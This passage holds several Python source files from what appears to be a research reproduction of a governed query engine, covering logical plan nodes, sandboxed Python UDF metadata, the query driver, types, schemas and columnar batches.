    """GROUP BY: grouping expressions plus aggregate calls.

    ``mode`` supports the eFGAC partial-aggregation pushdown (§3.4):
    ``complete`` (default) does everything locally; ``partial`` emits opaque
    aggregate states (what the remote endpoint ships back); ``final`` merges
    partial states produced elsewhere.
    """

    MODES = ("complete", "partial", "final")

    def __init__(
        self,
        child: LogicalPlan,
        groupings: Sequence[Expression],
        aggregates: Sequence[Expression],
        mode: str = "complete",
    ):
        if mode not in self.MODES:
            raise AnalysisError(f"unknown aggregate mode '{mode}'")
        super().__init__((child,))
        self.groupings = tuple(groupings)
        self.aggregates = tuple(aggregates)
        self.mode = mode

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        if self.mode == "partial":
            from repro.engine.aggregates import AggregateCall
            from repro.engine.physical import partial_agg_schema

            calls: list[AggregateCall] = []
            seen: set[int] = set()
            for expr in self.aggregates:
                for node in expr.walk():
                    if isinstance(node, AggregateCall) and node.expr_id not in seen:
                        seen.add(node.expr_id)
                        calls.append(node)
            return partial_agg_schema(self.groupings, calls)
        # ``aggregates`` is the full output list (Spark's aggregateExprs);
        # groupings are only the keys and appear in the output when listed.
        fields = []
        for e in self.aggregates:
            if e.dtype is None:
                raise AnalysisError(f"aggregate output '{e}' is unresolved")
            fields.append(Field(e.output_name(), e.dtype))
        return Schema(tuple(fields))

    @property
    def resolved(self) -> bool:
        return super().resolved and all(
            e.resolved for e in list(self.groupings) + list(self.aggregates)
        )

    def with_children(self, children):
        return Aggregate(children[0], self.groupings, self.aggregates, self.mode)

    def expressions(self):
        return list(self.groupings) + list(self.aggregates)

    def _node_label(self) -> str:
        return (
            f"Aggregate groupBy=[{', '.join(map(str, self.groupings))}] "
            f"agg=[{', '.join(map(str, self.aggregates))}]"
        )


class Sort(LogicalPlan):
    """Total ordering by one or more sort keys (``ORDER BY``)."""

    def __init__(self, child: LogicalPlan, orders: Sequence[SortOrder]):
        super().__init__((child,))
        self.orders = tuple(orders)

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        return self.child.schema

    def with_children(self, children):
        return Sort(children[0], self.orders)

    def expressions(self):
        return [o.expr for o in self.orders]

    def _node_label(self) -> str:
        return f"Sort [{', '.join(str(o) for o in self.orders)}]"


class Limit(LogicalPlan):
    """Row-count bound with optional offset (``LIMIT``/``OFFSET``)."""

    def __init__(self, child: LogicalPlan, limit: int, offset: int = 0):
        super().__init__((child,))
        if limit < 0 or offset < 0:
            raise AnalysisError("LIMIT/OFFSET must be non-negative")
        self.limit = limit
        self.offset = offset

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        return self.child.schema

    def with_children(self, children):
        return Limit(children[0], self.limit, self.offset)

    def _node_label(self) -> str:
        suffix = f" offset={self.offset}" if self.offset else ""
        return f"Limit [{self.limit}]{suffix}"


class Distinct(LogicalPlan):
    """Duplicate elimination (``SELECT DISTINCT``)."""

    def __init__(self, child: LogicalPlan):
        super().__init__((child,))

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        return self.child.schema

    def with_children(self, children):
        return Distinct(children[0])


# ---------------------------------------------------------------------------
# Binary / n-ary nodes
# ---------------------------------------------------------------------------


class Join(LogicalPlan):
    """Binary join; ``how`` is one of JOIN_TYPES, with an ON condition."""

    def __init__(
        self,
        left: LogicalPlan,
        right: LogicalPlan,
        how: str = "inner",
        condition: Expression | None = None,
    ):
        if how not in JOIN_TYPES:
            raise AnalysisError(f"unknown join type '{how}'; one of {JOIN_TYPES}")
        if how != "cross" and condition is None:
            raise AnalysisError(f"'{how}' join requires a condition")
        super().__init__((left, right))
        self.how = how
        self.condition = condition

    @property
    def left(self) -> LogicalPlan:
        return self.children[0]

    @property
    def right(self) -> LogicalPlan:
        return self.children[1]

    @property
    def schema(self) -> Schema:
        if self.how in ("semi", "anti"):
            return self.left.schema
        return self.left.schema.concat(self.right.schema)

    @property
    def resolved(self) -> bool:
        cond_ok = self.condition is None or self.condition.resolved
        return super().resolved and cond_ok

    def with_children(self, children):
        return Join(children[0], children[1], self.how, self.condition)

    def expressions(self):
        return [self.condition] if self.condition is not None else []

    def _node_label(self) -> str:
        cond = f" on {self.condition}" if self.condition is not None else ""
        return f"Join [{self.how}]{cond}"


class Union(LogicalPlan):
    """UNION ALL of arity-compatible inputs."""

    def __init__(self, children: Sequence[LogicalPlan]):
        if len(children) < 2:
            raise AnalysisError("UNION needs at least two inputs")
        super().__init__(children)

    @property
    def schema(self) -> Schema:
        return self.children[0].schema

    def with_children(self, children):
        return Union(children)


# ---------------------------------------------------------------------------
# Helpers used by analyzer / optimizer / rewriters
# ---------------------------------------------------------------------------


def plan_contains(plan: LogicalPlan, node_type: type) -> bool:
    return any(isinstance(n, node_type) for n in plan.walk())


def collect_nodes(plan: LogicalPlan, node_type: type) -> list[LogicalPlan]:
    return [n for n in plan.walk() if isinstance(n, node_type)]


def scan_tables(plan: LogicalPlan) -> list[TableRef]:
    """All table refs scanned anywhere in the plan."""
    return [n.table for n in plan.walk() if isinstance(n, Scan)]
