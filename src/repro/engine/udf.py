"""Python user-defined functions.

UDFs are the reason Lakeguard exists: they are *user code* that must never
run inside the trusted engine. A :class:`PythonUDF` therefore carries, next
to the callable itself, the metadata governance needs:

- ``owner`` — the identity whose *trust domain* the code belongs to (§3.3);
  UDFs of different owners must never share a sandbox.
- ``cataloged`` — whether this is ephemeral session code or a Unity Catalog
  function object reusable across workloads.
- ``language`` — only ``python`` UDFs execute for real in this reproduction;
  other languages are representable for cataloging but raise on execution.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Any, Callable

from repro.engine.types import DataType, type_from_name
from repro.errors import UserCodeError

#: Owner used for UDFs defined interactively before any session user is known.
SESSION_OWNER = "<session>"


@dataclass(frozen=True)
class PythonUDF:
    """A scalar Python UDF: row-wise callable plus governance metadata."""

    name: str
    func: Callable[..., Any]
    return_type: DataType
    owner: str = SESSION_OWNER
    cataloged: bool = False
    language: str = "python"
    deterministic: bool = True
    #: Special resource needs (e.g. "gpu", "high_memory"). The dispatcher
    #: routes such code to specialized execution environments outside the
    #: cluster (§3.3) instead of ordinary colocated sandboxes.
    resource_requirements: frozenset[str] = frozenset()

    @property
    def trust_domain(self) -> str:
        """UDFs owned by the same identity share a trust domain (§3.3)."""
        return self.owner

    def with_owner(self, owner: str) -> "PythonUDF":
        return replace(self, owner=owner)

    def as_cataloged(self, owner: str) -> "PythonUDF":
        return replace(self, owner=owner, cataloged=True)

    def __call__(self, *args):
        """Build a :class:`~repro.engine.expressions.PythonUDFCall` expression.

        Arguments may be expressions or column-name strings, so the client
        DataFrame API reads naturally: ``my_udf(col("a"), col("b"))``.
        """
        from repro.engine.expressions import PythonUDFCall, to_expression

        return PythonUDFCall(self, tuple(to_expression(a) for a in args))

    def invoke_rows(self, arg_columns: list[list[Any]]) -> list[Any]:
        """Apply the function row-wise over columnar arguments.

        This is the *computation* only; where it runs (inline vs sandbox) is
        the runtime's decision, not the UDF's. Non-Python UDFs are catalog-
        representable (Table 1 honesty) but cannot execute in a Python host.
        """
        from repro.errors import SandboxPolicyViolation, UnsupportedOperationError

        if self.language != "python":
            raise UnsupportedOperationError(
                f"UDF '{self.name}' is written in {self.language}; this "
                "reproduction executes Python UDFs only"
            )

        try:
            return [self.func(*row) for row in zip(*arg_columns)]
        except SandboxPolicyViolation:
            # Policy enforcement outranks user-code error wrapping: an egress
            # denial must surface as itself so callers can audit it.
            raise
        except Exception as exc:  # noqa: BLE001 - user code may raise anything
            raise UserCodeError(
                f"UDF '{self.name}' raised {type(exc).__name__}: {exc}",
                udf_name=self.name,
            ) from exc


def udf(
    return_type: str | DataType,
    name: str | None = None,
    deterministic: bool = True,
    resources: set[str] | frozenset[str] = frozenset(),
):
    """Decorator mirroring ``pyspark.sql.functions.udf``.

    Example::

        @udf(return_type="float")
        def fahrenheit(celsius):
            return celsius * 9 / 5 + 32

    ``resources={"gpu"}`` marks code that must run in a specialized
    execution environment (§3.3).
    """
    dtype = type_from_name(return_type) if isinstance(return_type, str) else return_type

    def wrap(func: Callable[..., Any]) -> PythonUDF:
        return PythonUDF(
            name=name or func.__name__,
            func=func,
            return_type=dtype,
            deterministic=deterministic,
            resource_requirements=frozenset(resources),
        )

    return wrap


@dataclass
class UDFRegistry:
    """Session-scoped registry of ephemeral UDFs (temporary functions)."""

    _udfs: dict[str, PythonUDF] = field(default_factory=dict)

    def register(self, udf_obj: PythonUDF) -> None:
        self._udfs[udf_obj.name] = udf_obj

    def get(self, name: str) -> PythonUDF | None:
        return self._udfs.get(name)

    def names(self) -> list[str]:
        return sorted(self._udfs)
