"""Query driver: ties analyzer, optimizer, planner and execution together.

:class:`QueryEngine` is the in-process equivalent of a Spark driver. The
Connect service owns one per cluster; Lakeguard configures it with a
governed relation resolver, a credential-fetching data source, a sandboxed
UDF runtime, and (on dedicated compute) an eFGAC remote executor.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field
from typing import Any, Callable, Iterator, Sequence

from repro.common.context import QueryContext, current_context, span_or_null
from repro.engine.analyzer import Analyzer, RelationResolver
from repro.engine.batch import ColumnBatch, chunk_batch
from repro.engine.compile import KernelCompiler
from repro.engine.expressions import EvalContext, UDFRuntime
from repro.engine.logical import LogicalPlan, RemoteScan, TableRef
from repro.engine.optimizer import Optimizer, OptimizerConfig, Rule
from repro.engine.physical import (
    DEFAULT_BATCH_SIZE,
    DataSource,
    ExecContext,
    PhysicalPlanner,
    QueryMetrics,
)
from repro.errors import ExecutionError


#: Environment override for the execution backend (the CI matrix leg sets
#: ``LAKEGUARD_WORKER_BACKEND=process`` to force every engine through the
#: process pool).
ENV_WORKER_BACKEND = "LAKEGUARD_WORKER_BACKEND"

WORKER_BACKENDS = ("thread", "process")

#: Environment override for whole-operator fusion (``0``/``false``/``off``
#: disables it; anything else, or unset, keeps the default of on). The
#: fusion ablation benchmark and the CI fused legs flip this.
ENV_FUSE_OPERATORS = "LAKEGUARD_FUSE_OPERATORS"


def default_worker_backend() -> str:
    value = os.environ.get(ENV_WORKER_BACKEND, "").strip().lower()
    return value if value in WORKER_BACKENDS else "thread"


def default_fuse_operators() -> bool:
    value = os.environ.get(ENV_FUSE_OPERATORS, "").strip().lower()
    return value not in ("0", "false", "off", "no")


@dataclass
class ExecutionConfig:
    """Engine-level knobs."""

    batch_size: int = DEFAULT_BATCH_SIZE
    #: Number of simulated executor workers a scan is spread across.
    num_executors: int = 2
    #: Lower expressions to compiled kernels at plan time (interpreted
    #: evaluation remains the automatic fallback for anything the compiler
    #: refuses or fails on).
    compile_enabled: bool = True
    #: Execution backend: ``"thread"`` runs scan tasks and kernels on driver
    #: threads (the default and the universal fallback); ``"process"``
    #: routes them through a warm pool of worker processes exchanging
    #: shared-memory columnar batches (see :mod:`repro.engine.workers`).
    #: Defaults from ``LAKEGUARD_WORKER_BACKEND`` when set.
    worker_backend: str = field(default_factory=default_worker_backend)
    #: Process-pool size; ``None`` follows ``num_executors``.
    worker_pool_size: int | None = None
    #: Whole-operator codegen: the planner fuses scan→filter→project→
    #: aggregate chains (plus sort/join key extraction) into single
    #: generated loops. Requires ``compile_enabled``; interpreted fallback
    #: applies per chain. Defaults from ``LAKEGUARD_FUSE_OPERATORS``.
    fuse_operators: bool = field(default_factory=default_fuse_operators)


class LocalDataSource:
    """Data source backed by in-memory columns, keyed by table full name."""

    def __init__(self) -> None:
        self._tables: dict[str, dict[str, list[Any]]] = {}

    def register(self, full_name: str, columns: dict[str, list[Any]]) -> None:
        self._tables[full_name] = columns

    def scan(self, table: TableRef, eval_ctx: EvalContext) -> Iterator[ColumnBatch]:
        try:
            columns = self._tables[table.full_name]
        except KeyError:
            raise ExecutionError(f"no data registered for '{table.full_name}'") from None
        batch = ColumnBatch.from_dict(table.schema, columns)
        yield from chunk_batch(batch, eval_ctx.batch_size)


@dataclass
class QueryResult:
    """A completed query: final batch plus plans and metrics for inspection."""

    batch: ColumnBatch
    analyzed_plan: LogicalPlan
    optimized_plan: LogicalPlan
    metrics: QueryMetrics

    def rows(self) -> list[tuple]:
        return self.batch.to_rows()

    def column(self, name: str) -> list[Any]:
        return self.batch.column(name)


RemoteExecutor = Callable[[RemoteScan, EvalContext], Iterator[ColumnBatch]]


class QueryEngine:
    """Analyze → optimize → plan → execute, with pluggable governance hooks."""

    def __init__(
        self,
        resolver: RelationResolver,
        data_source: DataSource | None = None,
        config: ExecutionConfig | None = None,
        optimizer_config: OptimizerConfig | None = None,
        extra_rules: Sequence[Rule] = (),
        udf_runtime: UDFRuntime | None = None,
        remote_executor: RemoteExecutor | None = None,
        kernel_compiler: KernelCompiler | None = None,
        worker_pool: Any = None,
    ):
        self.config = config or ExecutionConfig()
        self._analyzer = Analyzer(resolver)
        self._optimizer_config = optimizer_config or OptimizerConfig()
        self._extra_rules = tuple(extra_rules)
        # A shared compiler (e.g. the cluster-wide one, for cross-session
        # kernel reuse) wins; otherwise the engine owns a private cache.
        compiler = None
        if self.config.compile_enabled:
            compiler = kernel_compiler or KernelCompiler()
        self.kernel_compiler = compiler
        self._planner = PhysicalPlanner(
            compiler, fuse_operators=self.config.fuse_operators
        )
        self._data_source = data_source
        self._udf_runtime = udf_runtime
        self._remote_executor = remote_executor
        # A cluster-owned WorkerPool wins (shared across sessions, faults
        # wired); a standalone engine on the process backend lazily owns one.
        self._worker_pool = worker_pool
        self._owns_pool = False

    def worker_pool(self):
        """The process pool query tasks route through (None = thread backend)."""
        if self.config.worker_backend != "process":
            return None
        pool = self._worker_pool
        if pool is not None:
            return None if pool.closed else pool
        from repro.engine.workers import WorkerPool

        pool = WorkerPool(
            self.config.worker_pool_size or self.config.num_executors
        )
        self._worker_pool = pool
        self._owns_pool = True
        return pool

    def close(self) -> None:
        """Release the engine's own worker pool, if it created one."""
        if self._owns_pool and self._worker_pool is not None:
            self._worker_pool.close()

    # -- phases -------------------------------------------------------------------

    def analyze(self, plan: LogicalPlan) -> LogicalPlan:
        return self._analyzer.analyze(plan)

    def optimize(self, plan: LogicalPlan) -> LogicalPlan:
        """Run the rule fixpoint, under an ``optimizer`` span when traced."""
        # A fresh Optimizer per query keeps fusion-group ids plan-local.
        optimizer = Optimizer(self._optimizer_config, extra_rules=self._extra_rules)
        qctx = current_context()
        with span_or_null(
            qctx, "optimize", "optimizer", rules=len(optimizer.rule_names)
        ) as span:
            optimized = optimizer.optimize(plan)
            if qctx is not None:
                span.set_attribute("nodes_in", _count_nodes(plan))
                span.set_attribute("nodes_out", _count_nodes(optimized))
            return optimized

    def plan_physical(self, optimized: LogicalPlan):
        """Map an optimized logical plan to its physical operator tree."""
        return self._planner.plan(optimized)

    def exec_context(
        self,
        user: str = "anonymous",
        groups: frozenset[str] | set[str] = frozenset(),
        udf_runtime: UDFRuntime | None = None,
        auth: Any = None,
        query_ctx: QueryContext | None = None,
    ) -> ExecContext:
        """Build the runtime context an operator tree executes under."""
        eval_ctx = EvalContext(
            user=user,
            groups=frozenset(groups),
            udf_runtime=udf_runtime or self._udf_runtime or UDFRuntime(),
            auth=auth,
            query_ctx=query_ctx if query_ctx is not None else current_context(),
            batch_size=self.config.batch_size,
        )
        return ExecContext(
            eval_ctx=eval_ctx,
            data_source=self._data_source,
            remote_executor=self._remote_executor,
            batch_size=self.config.batch_size,
            parallel_children=self.config.num_executors > 1,
            worker_pool=self.worker_pool(),
        )

    def explain(self, plan: LogicalPlan, user: str = "anonymous") -> str:
        analyzed = self.analyze(plan)
        optimized = self.optimize(analyzed)
        return optimized.explain()

    # -- execution ------------------------------------------------------------------

    def execute(
        self,
        plan: LogicalPlan,
        user: str = "anonymous",
        groups: frozenset[str] | set[str] = frozenset(),
        udf_runtime: UDFRuntime | None = None,
        auth: Any = None,
    ) -> QueryResult:
        analyzed = self.analyze(plan)
        optimized = self.optimize(analyzed)
        return self.execute_optimized(
            optimized, analyzed, user, groups, udf_runtime, auth
        )

    def execute_optimized(
        self,
        optimized: LogicalPlan,
        analyzed: LogicalPlan | None = None,
        user: str = "anonymous",
        groups: frozenset[str] | set[str] = frozenset(),
        udf_runtime: UDFRuntime | None = None,
        auth: Any = None,
    ) -> QueryResult:
        """Run an already-optimized plan (used by eFGAC split pipelines)."""
        ctx = self.exec_context(
            user=user, groups=groups, udf_runtime=udf_runtime, auth=auth
        )
        operator = self.plan_physical(optimized)
        batch = self.run_operator(operator, ctx)
        return QueryResult(
            batch=batch,
            analyzed_plan=analyzed if analyzed is not None else optimized,
            optimized_plan=optimized,
            metrics=ctx.metrics,
        )

    def run_operator(self, operator, ctx: ExecContext):
        """Collect an operator tree, emitting an executor span if traced."""
        qctx = ctx.eval_ctx.query_ctx
        with span_or_null(
            qctx, "collect", "executor", batch_size=ctx.batch_size
        ) as span:
            batch = operator.collect(ctx)
            if qctx is not None:
                span.set_attribute("rows_output", ctx.metrics.rows_output)
                span.set_attribute("rows_scanned", ctx.metrics.rows_scanned)
                span.set_attribute(
                    "sandbox_round_trips", ctx.metrics.sandbox_round_trips
                )
            return batch


def _count_nodes(plan: LogicalPlan) -> int:
    return 1 + sum(_count_nodes(c) for c in plan.children)
