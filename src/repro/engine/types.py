"""Data types and schemas.

A deliberately small type system: INT, FLOAT, STRING, BOOL, BINARY. Values
are plain Python objects; ``None`` encodes SQL NULL in any column.

Schemas support *qualified* field names (``alias.column``) so that joins and
subquery aliases resolve the way they do in Spark's analyzer.
"""

from __future__ import annotations

from dataclasses import dataclass, field as dc_field, replace
from typing import Any, Iterator

from repro.errors import AnalysisError


@dataclass(frozen=True)
class DataType:
    """A scalar data type."""

    name: str

    def __str__(self) -> str:
        return self.name

    def accepts(self, value: Any) -> bool:
        """True if a Python value is a legal member of this type (or NULL)."""
        if value is None:
            return True
        if self.name == "int":
            return isinstance(value, int) and not isinstance(value, bool)
        if self.name == "float":
            return isinstance(value, (int, float)) and not isinstance(value, bool)
        if self.name == "string":
            return isinstance(value, str)
        if self.name == "bool":
            return isinstance(value, bool)
        if self.name == "binary":
            return isinstance(value, (bytes, bytearray))
        return False


INT = DataType("int")
FLOAT = DataType("float")
STRING = DataType("string")
BOOL = DataType("bool")
BINARY = DataType("binary")

_TYPES_BY_NAME = {t.name: t for t in (INT, FLOAT, STRING, BOOL, BINARY)}

#: Aliases accepted in SQL DDL and UDF return-type annotations.
_TYPE_ALIASES = {
    "int": INT,
    "integer": INT,
    "long": INT,
    "bigint": INT,
    "float": FLOAT,
    "double": FLOAT,
    "string": STRING,
    "varchar": STRING,
    "text": STRING,
    "bool": BOOL,
    "boolean": BOOL,
    "binary": BINARY,
    "bytes": BINARY,
}


def type_from_name(name: str) -> DataType:
    """Resolve a type name or alias (case-insensitive) to a :class:`DataType`."""
    try:
        return _TYPE_ALIASES[name.strip().lower()]
    except KeyError:
        raise AnalysisError(f"unknown data type: '{name}'") from None


def is_numeric(dtype: DataType) -> bool:
    return dtype in (INT, FLOAT)


def common_numeric_type(left: DataType, right: DataType) -> DataType:
    """Numeric widening: int op float -> float."""
    if not (is_numeric(left) and is_numeric(right)):
        raise AnalysisError(f"expected numeric types, got {left} and {right}")
    return FLOAT if FLOAT in (left, right) else INT


@dataclass(frozen=True)
class Field:
    """One schema column: name, type, optional relation qualifier."""

    name: str
    dtype: DataType
    nullable: bool = True
    qualifier: str | None = None

    def qualified_name(self) -> str:
        return f"{self.qualifier}.{self.name}" if self.qualifier else self.name

    def with_qualifier(self, qualifier: str | None) -> "Field":
        return replace(self, qualifier=qualifier)

    def __str__(self) -> str:
        return f"{self.qualified_name()}: {self.dtype}"


@dataclass(frozen=True)
class Schema:
    """An ordered list of fields with Spark-like name resolution."""

    fields: tuple[Field, ...] = dc_field(default_factory=tuple)

    def __post_init__(self) -> None:
        if not isinstance(self.fields, tuple):
            object.__setattr__(self, "fields", tuple(self.fields))
        # Memo for field_index: name -> position, or the AnalysisError that
        # lookup raised (missing/ambiguous outcomes are cached identically).
        # Not a declared dataclass field, so eq/hash/repr are unaffected.
        object.__setattr__(self, "_index_memo", {})

    def __len__(self) -> int:
        return len(self.fields)

    def __iter__(self) -> Iterator[Field]:
        return iter(self.fields)

    def __getitem__(self, index: int) -> Field:
        return self.fields[index]

    @property
    def names(self) -> list[str]:
        return [f.name for f in self.fields]

    def field_index(self, name: str) -> int:
        """Resolve ``name`` (optionally ``qualifier.name``) to a position.

        Raises :class:`AnalysisError` when the name is missing or ambiguous.
        Resolution is memoized per schema — ``column()`` consults it on the
        execution hot path — with missing/ambiguous outcomes preserved.
        """
        memo: dict[str, int | AnalysisError] = self._index_memo  # type: ignore[attr-defined]
        cached = memo.get(name)
        if cached is not None:
            if isinstance(cached, AnalysisError):
                raise cached
            return cached
        try:
            index = self._resolve_field_index(name)
        except AnalysisError as exc:
            memo[name] = exc
            raise
        memo[name] = index
        return index

    def _resolve_field_index(self, name: str) -> int:
        qualifier, _, bare = name.rpartition(".")
        matches = [
            i
            for i, f in enumerate(self.fields)
            if f.name == bare and (not qualifier or f.qualifier == qualifier)
        ]
        if not matches:
            raise AnalysisError(
                f"column '{name}' not found; available: "
                f"{[f.qualified_name() for f in self.fields]}"
            )
        if len(matches) > 1:
            raise AnalysisError(
                f"column reference '{name}' is ambiguous; candidates: "
                f"{[self.fields[i].qualified_name() for i in matches]}"
            )
        return matches[0]

    def contains(self, name: str) -> bool:
        try:
            self.field_index(name)
            return True
        except AnalysisError:
            return False

    def with_qualifier(self, qualifier: str | None) -> "Schema":
        """Re-qualify every field (used by subquery aliases)."""
        return Schema(tuple(f.with_qualifier(qualifier) for f in self.fields))

    def concat(self, other: "Schema") -> "Schema":
        return Schema(self.fields + other.fields)

    def select(self, indices: list[int]) -> "Schema":
        return Schema(tuple(self.fields[i] for i in indices))

    def __str__(self) -> str:
        return "[" + ", ".join(str(f) for f in self.fields) + "]"


def schema_of(**columns: DataType) -> Schema:
    """Convenience constructor: ``schema_of(id=INT, name=STRING)``."""
    return Schema(tuple(Field(name, dtype) for name, dtype in columns.items()))
