"""A columnar mini query engine standing in for Spark SQL.

The engine mirrors the phases the paper's governance machinery hooks into:

parse/build → **analyze** (name resolution, view expansion, FGAC injection)
→ **optimize** (rule-based: pushdown with SecureView barriers, UDF fusion)
→ **physical planning** → **execution** on simulated executors that fetch
per-user temporary credentials before scanning storage.
"""

from repro.engine.types import (
    BOOL,
    BINARY,
    FLOAT,
    INT,
    STRING,
    DataType,
    Field,
    Schema,
)
from repro.engine.batch import ColumnBatch
from repro.engine.udf import PythonUDF, udf

__all__ = [
    "BOOL",
    "BINARY",
    "FLOAT",
    "INT",
    "STRING",
    "DataType",
    "Field",
    "Schema",
    "ColumnBatch",
    "PythonUDF",
    "udf",
]
