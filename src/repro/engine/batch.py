"""The columnar data container flowing between physical operators."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Iterable, Iterator, Sequence

from repro.engine.types import Field, Schema
from repro.errors import ExecutionError


@dataclass
class ColumnBatch:
    """A batch of rows in columnar layout.

    ``columns[i]`` holds the values of ``schema.fields[i]`` as a plain list;
    ``None`` encodes NULL. Batches are treated as immutable by operators:
    transformations build new batches.
    """

    schema: Schema
    columns: list[list[Any]]

    def __post_init__(self) -> None:
        if len(self.columns) != len(self.schema):
            raise ExecutionError(
                f"batch has {len(self.columns)} columns but schema has "
                f"{len(self.schema)} fields"
            )
        lengths = {len(c) for c in self.columns}
        if len(lengths) > 1:
            raise ExecutionError(f"ragged batch: column lengths {sorted(lengths)}")

    # -- constructors ---------------------------------------------------------

    @classmethod
    def from_dict(cls, schema: Schema, data: dict[str, Sequence[Any]]) -> "ColumnBatch":
        """Build a batch from ``{column_name: values}`` in schema order."""
        missing = [f.name for f in schema if f.name not in data]
        if missing:
            raise ExecutionError(f"missing columns in data: {missing}")
        return cls(schema, [list(data[f.name]) for f in schema])

    @classmethod
    def from_rows(cls, schema: Schema, rows: Iterable[Sequence[Any]]) -> "ColumnBatch":
        """Build a batch from row tuples."""
        columns: list[list[Any]] = [[] for _ in schema]
        for row in rows:
            if len(row) != len(schema):
                raise ExecutionError(
                    f"row has {len(row)} values but schema has {len(schema)} fields"
                )
            for i, value in enumerate(row):
                columns[i].append(value)
        return cls(schema, columns)

    @classmethod
    def empty(cls, schema: Schema) -> "ColumnBatch":
        return cls(schema, [[] for _ in schema])

    # -- shape ----------------------------------------------------------------

    @property
    def num_rows(self) -> int:
        return len(self.columns[0]) if self.columns else 0

    @property
    def num_columns(self) -> int:
        return len(self.columns)

    def column(self, name: str) -> list[Any]:
        """Values of one column, resolved by (possibly qualified) name."""
        return self.columns[self.schema.field_index(name)]

    # -- transformations -------------------------------------------------------

    def select_indices(self, indices: list[int]) -> "ColumnBatch":
        return ColumnBatch(self.schema.select(indices), [self.columns[i] for i in indices])

    def filter(self, mask: Sequence[Any]) -> "ColumnBatch":
        """Keep rows where ``mask`` is truthy (SQL semantics: NULL drops)."""
        if len(mask) != self.num_rows:
            raise ExecutionError(
                f"mask length {len(mask)} != row count {self.num_rows}"
            )
        keep = [i for i, m in enumerate(mask) if m]
        return self.take(keep)

    def take(self, row_indices: Sequence[int]) -> "ColumnBatch":
        return ColumnBatch(
            self.schema,
            [[col[i] for i in row_indices] for col in self.columns],
        )

    def slice(self, start: int, stop: int) -> "ColumnBatch":
        return ColumnBatch(self.schema, [col[start:stop] for col in self.columns])

    def rename(self, schema: Schema) -> "ColumnBatch":
        """Attach a different schema of equal arity (projection aliasing)."""
        return ColumnBatch(schema, self.columns)

    @staticmethod
    def concat(schema: Schema, batches: Sequence["ColumnBatch"]) -> "ColumnBatch":
        """Concatenate batches that share an arity-compatible schema."""
        if not batches:
            return ColumnBatch.empty(schema)
        columns: list[list[Any]] = [[] for _ in schema]
        for batch in batches:
            if batch.num_columns != len(schema):
                raise ExecutionError("cannot concat batches of different arity")
            for i, col in enumerate(batch.columns):
                columns[i].extend(col)
        return ColumnBatch(schema, columns)

    # -- buffer encoding -------------------------------------------------------

    def to_buffers(self) -> tuple[dict[str, Any], bytes]:
        """Encode into ``(layout metadata, contiguous buffer payload)``.

        The payload is suitable for placement in a shared-memory segment;
        the metadata is small and travels on a control channel. Lossless:
        :meth:`from_buffers` reconstructs identical columns.
        """
        from repro.common import shmbuf

        return shmbuf.encode_columns(self.columns, self.num_rows)

    @classmethod
    def from_buffers(
        cls,
        schema: Schema,
        meta: dict[str, Any],
        buf: Any,
        zero_copy: bool = False,
    ) -> "ColumnBatch":
        """Rebuild a batch from a :meth:`to_buffers` layout.

        With ``zero_copy=True`` the columns are lazy views over ``buf``
        (which must outlive them — call :meth:`materialize` before releasing
        the underlying segment); otherwise plain lists are copied out.
        """
        from repro.common import shmbuf

        return cls(schema, shmbuf.decode_columns(meta, buf, zero_copy))

    def materialize(self) -> "ColumnBatch":
        """Copy any lazy buffer-view columns into plain lists."""
        if all(type(col) is list for col in self.columns):
            return self
        return ColumnBatch(
            self.schema,
            [col if type(col) is list else list(col) for col in self.columns],
        )

    # -- export ----------------------------------------------------------------

    def to_rows(self) -> list[tuple]:
        return list(zip(*self.columns)) if self.columns else []

    def iter_rows(self) -> Iterator[tuple]:
        return iter(zip(*self.columns))

    def to_dict(self) -> dict[str, list[Any]]:
        return {f.qualified_name(): col for f, col in zip(self.schema, self.columns)}

    def __repr__(self) -> str:
        return f"ColumnBatch({self.schema}, rows={self.num_rows})"

    def show(self, max_rows: int = 20) -> str:
        """Render an ASCII table (like DataFrame.show())."""
        headers = [f.qualified_name() for f in self.schema]
        rows = [tuple(str(v) for v in row) for row in self.to_rows()[:max_rows]]
        widths = [
            max(len(h), *(len(r[i]) for r in rows)) if rows else len(h)
            for i, h in enumerate(headers)
        ]
        sep = "+" + "+".join("-" * (w + 2) for w in widths) + "+"
        out = [sep, "|" + "|".join(f" {h:<{w}} " for h, w in zip(headers, widths)) + "|", sep]
        for row in rows:
            out.append("|" + "|".join(f" {v:<{w}} " for v, w in zip(row, widths)) + "|")
        out.append(sep)
        if self.num_rows > max_rows:
            out.append(f"(showing {max_rows} of {self.num_rows} rows)")
        return "\n".join(out)


class OneRowBatch(ColumnBatch):
    """Zero-column batch reporting one row.

    Lets vectorized evaluation of column-free expressions (constant folding,
    INSERT VALUES constants) produce exactly one value.
    """

    def __init__(self):
        super().__init__(Schema(()), [])

    @property
    def num_rows(self) -> int:  # type: ignore[override]
        return 1


#: Shared singleton for constant evaluation.
ONE_ROW = OneRowBatch()


def chunk_batch(batch: ColumnBatch, batch_size: int) -> Iterator[ColumnBatch]:
    """Split a batch into ``batch_size``-row slices (0 = unlimited)."""
    if batch_size <= 0 or batch.num_rows <= batch_size:
        yield batch
        return
    for start in range(0, batch.num_rows, batch_size):
        yield batch.slice(start, start + batch_size)


def batch_schema_for(names: Sequence[str], sample: dict[str, Sequence[Any]]) -> Schema:
    """Infer a schema from sample data (used by LocalRelation builders)."""
    from repro.engine.types import BINARY, BOOL, FLOAT, INT, STRING

    fields = []
    for name in names:
        dtype = STRING
        for value in sample.get(name, []):
            if value is None:
                continue
            if isinstance(value, bool):
                dtype = BOOL
            elif isinstance(value, int):
                dtype = INT
            elif isinstance(value, float):
                dtype = FLOAT
            elif isinstance(value, (bytes, bytearray)):
                dtype = BINARY
            else:
                dtype = STRING
            break
        fields.append(Field(name, dtype))
    return Schema(tuple(fields))
