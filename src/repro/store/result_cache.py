"""The governed result cache: serve repeated governed queries from bytes.

This is the layer the bursty agent / dashboard workload wants: the same
principal set re-running the same governed query under the same governance
state should not re-plan, re-vend, re-scan or re-filter anything — it
should get the *same bytes* back from the store. Correctness is carried
entirely by the key (see :func:`ArtifactStore.result_key`)::

    result/<relation fingerprint>/e<policy epoch>.d<data epoch>/<identity>
